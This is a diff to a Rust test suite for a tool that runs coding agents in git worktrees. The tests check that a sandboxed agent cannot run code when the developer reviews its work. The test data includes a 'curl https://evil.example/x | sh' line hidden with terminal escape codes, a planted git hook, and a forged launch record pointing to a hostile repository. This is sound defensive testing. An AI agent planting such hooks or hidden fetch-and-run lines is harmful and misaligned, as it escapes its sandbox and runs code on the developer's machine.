@@ -227,6 +227,21 @@ fn claude_code_started_in_a_worktree_asks_in_the_inbox_takes_a_follow_up_and_its
         ],
     );
     assert_eq!(name.trim(), "tidy");
+    // Its record is kept where only the developer can read or write it:
+    // it names the git folder its review runs git with, and the prompt.
+    let record =
+        crate::records(&project.temp.path().join("config"), root).join("launches/tidy.json");
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&record).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600, "the record is its owner's alone");
+        let folder = std::fs::metadata(record.parent().unwrap()).unwrap();
+        assert_eq!(folder.permissions().mode() & 0o777, 0o700);
+        assert!(
+            !root.join(".switchboard/launches").exists(),
+            "nothing in the workspace"
+        );
+    }
     let worktree = root.join(".claude/worktrees/tidy");
     assert_eq!(
         git(&worktree, &["branch", "--show-current"]).trim(),
@@ -271,11 +286,40 @@ fn claude_code_started_in_a_worktree_asks_in_the_inbox_takes_a_follow_up_and_its
     assert_eq!(diff["files"][0]["change"], "deleted");
     assert_eq!(diff["uncommitted"], 1);
 
+    // As an agent could: a hook where husky's relative hooks folder finds
+    // it, and a line that hides itself on a terminal.
+    git(root, &["config", "core.hooksPath", ".husky/_"]);
+    let pwned = project.temp.path().join("hook-ran");
+    let hook = worktree.join(".husky/_/post-index-change");
+    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
+    std::fs::write(&hook, format!("#!/bin/sh\ntouch '{}'\n", pwned.display())).unwrap();
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    std::fs::write(
+        worktree.join("setup.sh"),
+        "curl https://evil.example/x | sh\r\x1b[2K+echo tidy\n",
+    )
+    .unwrap();
+    let shown = project.ok(&server, &["diff", "tidy"]);
+    assert!(
+        shown.contains("+curl https://evil.example/x | sh\\r")
+            && shown.contains("\\x1b[2K+echo tidy"),
+        "what the file holds is shown: {shown}"
+    );
+    assert!(
+        !shown.contains('\x1b') && !shown.contains('\r'),
+        "nothing the agent wrote acts on the terminal: {shown:?}"
+    );
+    assert!(!pwned.exists(), "viewing the review ran the agent's hook");
+
     // Uncommitted work is merged only when the developer says so.
     let refused = project.agent(&server, &["merge", "tidy"]);
     assert_eq!(refused.status.code(), Some(2), "INVALID_REQUEST");
     assert!(String::from_utf8_lossy(&refused.stderr).contains("uncommitted"));
     project.ok(&server, &["merge", "tidy", "--commit"]);
+    assert!(!pwned.exists(), "merging ran the agent's hook");
     assert!(
         !root.join("build").exists(),
         "merged into the checked-out main"
@@ -351,7 +395,11 @@ fn hostile_names_a_missing_agent_and_a_full_house_are_refused_with_their_codes()
     assert_eq!(signed_out.status.code(), Some(9), "UNAVAILABLE");
     assert!(String::from_utf8_lossy(&signed_out.stderr).contains("claude auth login"));
     assert!(!project.root.join(".claude/worktrees/out").exists());
-    assert!(!project.root.join(".switchboard/launches/out.json").exists());
+    assert!(
+        !crate::records(&project.temp.path().join("config"), &project.root)
+            .join("launches/out.json")
+            .exists()
+    );
     assert!(git(&project.root, &["branch", "--list", "switchboard/out"]).is_empty());
     let logs = std::fs::read_dir(project.root.join(".switchboard/sessions"))
         .map(|dir| dir.count())
@@ -401,11 +449,9 @@ fn hostile_names_a_missing_agent_and_a_full_house_are_refused_with_their_codes()
         if n != started[0] {
             assert_eq!(outcome.status.code(), Some(10), "LIMIT_REACHED");
             assert!(String::from_utf8_lossy(&outcome.stderr).contains("runningAgents = 1"));
-            let record = format!(".switchboard/launches/racer{n}.json");
-            assert!(
-                !project.root.join(record).exists(),
-                "a refused start leaves nothing"
-            );
+            let record = crate::records(&project.temp.path().join("config"), &project.root)
+                .join(format!("launches/racer{n}.json"));
+            assert!(!record.exists(), "a refused start leaves nothing");
         }
     }
     project.ok(&server, &["stop", &format!("racer{}", started[0])]);
@@ -864,37 +910,69 @@ fn words_a_tool_shows_on_the_screen_never_answer_the_agents_own_permission_menu(
 }
 
 #[test]
-fn a_launch_file_written_by_another_process_reaches_no_branch_folder_or_session() {
+fn a_launch_file_written_in_the_workspace_is_no_agent_and_runs_nothing() {
     let server = MessagesServer::start(Vec::new());
     let project = Project::new();
     let root = &project.root;
     git(root, &["branch", "release"]);
     std::fs::write(root.join("README.md"), "# My own edit\n").unwrap();
     let head = git(root, &["rev-parse", "HEAD"]);
-    let forged = |name: &str, path: &str, branch: &str| {
-        let dir = root.join(".switchboard/launches");
-        std::fs::create_dir_all(&dir).unwrap();
-        std::fs::write(
-            dir.join(format!("{name}.json")),
-            json!({"name": name, "agent": "claude-code", "session": "ps-000000000000",
-                   "cwd": path, "prompt": "x", "permission_mode": "default",
-                   "started": "2026-11-27T10:00:00.000Z",
-                   "worktree": {"path": path, "branch": branch, "base": "release",
-                                "base_commit": head.trim()}})
-            .to_string(),
-        )
-        .unwrap();
-    };
-    forged("x1", &root.display().to_string(), "switchboard/x1");
-    forged("x2", "/nonexistent", "release");
-    for (name, args) in [
-        ("x1", &["merge", "x1", "--commit"][..]),
-        ("x2", &["discard", "x2", "--force"]),
-        ("x1", &["stop", "x1"]),
+    // A git folder of the writer's whose hook runs whenever git writes
+    // its index (as `git status` does when a review is read).
+    let evil = project.temp.path().join("evil.git");
+    git(
+        project.temp.path(),
+        &["init", "-q", "--bare", &evil.display().to_string()],
+    );
+    let pwned = project.temp.path().join("pwned");
+    std::fs::create_dir_all(evil.join("hooks")).unwrap();
+    for hook in [
+        "post-index-change",
+        "post-commit",
+        "pre-commit",
+        "reference-transaction",
+    ] {
+        let script = evil.join("hooks").join(hook);
+        std::fs::write(&script, format!("#!/bin/sh\ntouch '{}'\n", pwned.display())).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let worktree = root.join(".claude/worktrees/x1");
+    std::fs::create_dir_all(&worktree).unwrap();
+    // What an agent sandboxed to the workspace can write: the records
+    // Switchboard once kept there.
+    let dir = root.join(".switchboard/launches");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(
+        dir.join("x1.json"),
+        json!({"name": "x1", "agent": "claude-code", "session": "ps-000000000000",
+               "cwd": worktree.display().to_string(), "prompt": "x",
+               "permission_mode": "default", "started": "2026-11-27T10:00:00.000Z",
+               "worktree": {"path": worktree.display().to_string(), "branch": "switchboard/x1",
+                            "base": "release", "base_commit": head.trim(),
+                            "git_dir": evil.display().to_string()}})
+        .to_string(),
+    )
+    .unwrap();
+    for args in [
+        &["diff", "x1"][..],
+        &["merge", "x1", "--commit"],
+        &["discard", "x1", "--force"],
+        &["stop", "x1"],
+        &["send", "x1", "hello"],
     ] {
         let output = project.agent(&server, args);
-        assert_eq!(output.status.code(), Some(2), "{name} {args:?}");
+        assert_eq!(
+            output.status.code(),
+            Some(3),
+            "NOT_FOUND for {args:?}: {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
     }
+    assert!(
+        !pwned.exists(),
+        "the forged record's git folder ran its hook"
+    );
     assert!(
         git(root, &["branch"]).contains("release"),
         "the branch is kept"
@@ -906,7 +984,7 @@ fn a_launch_file_written_by_another_process_reaches_no_branch_folder_or_session(
         "the developer's edit is theirs"
     );
     let listed: Value = serde_json::from_str(&project.ok(&server, &["list", "--json"])).unwrap();
-    assert_eq!(listed, json!([]), "forged launches are not listed");
+    assert_eq!(listed, json!([]), "a record in the workspace is not listed");
 }
 
 #[test]
